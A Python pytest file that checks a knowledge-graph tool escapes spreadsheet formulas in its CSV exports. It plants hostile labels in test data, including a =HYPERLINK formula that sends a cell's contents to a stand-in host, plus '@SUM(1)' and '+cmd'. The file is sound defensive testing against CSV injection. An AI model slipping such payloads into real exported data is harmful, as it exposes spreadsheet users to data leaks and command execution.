"""A label that a spreadsheet would calculate, in all CSV that leaves."""

import csv
import io
import json
from collections.abc import Callable

import pytest
from click.testing import Result
from conftest import SOURCES

from kg.build import build
from kg.spreadsheet import is_formula

LABEL = '=HYPERLINK("http://127.0.0.1:9/?"&A1)'
#: Tables refuse such a label; RDF has no cells.
TURTLE = f"""
@prefix vit: <https://w3id.org/vitaal/def#> .
@prefix id: <https://w3id.org/vitaal/id/> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
id:net a vit:Service ; skos:prefLabel '''{LABEL}'''@nl ; vit:inSector id:energie ;
    dcterms:source id:s1 .
id:trein a vit:VitalProcess ; skos:prefLabel "@SUM(1)"@nl ; vit:inSector id:spoor ;
    dcterms:source id:s1 .
id:eis a vit:Requirement ; skos:prefLabel "+cmd"@nl ; vit:requiredBy id:trein ;
    vit:fulfilledBy id:net ; vit:minimumFulfilled 1 ; vit:effect vit:fails ;
    vit:buffer "PT1H"^^xsd:duration ; dcterms:source id:s1 .
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("formules") / "mijn"
    folder.mkdir()
    (folder / "Source.csv").write_text(SOURCES, encoding="utf-8")
    (folder / "net.ttl").write_text(TURTLE, encoding="utf-8")
    out = folder.parent / "releases"
    build([folder], out, validation=False)
    return str(out)


@pytest.mark.parametrize(
    "asked",
    [
        ["export"],
        ["cascade", "net"],
        ["screen", "--order", "1", "--units", "net"],
        ["cutsets", "trein", "--within", "P3D"],
        ["query", "wie-leunt-op", "-p", "unit=net"],
        ["query", "initiatoren-vitale-processen"],
    ],
    ids=lambda asked: " ".join(asked[:2]),
)
def test_no_cell_begins_as_a_formula(
    kg: Callable[..., Result], hostile: str, asked: list[str]
) -> None:
    result = kg(*asked, "--release", hostile, "--format", "csv")
    assert result.exit_code == 0, result.output
    lines = [line for line in result.stdout.splitlines(True) if not line.startswith("#")]
    cells = [cell for row in csv.reader(io.StringIO("".join(lines))) for cell in row]
    assert any(cell in (f"'{LABEL}", "'@SUM(1)", "'+cmd") for cell in cells), result.stdout[:2000]
    assert [cell for cell in cells if is_formula(cell)] == []


def test_json_says_it_as_it_is(kg: Callable[..., Result], hostile: str) -> None:
    said = kg("cascade", "net", "--release", hostile, "--format", "json").stdout
    assert LABEL in json.loads(said)["labels"].values()
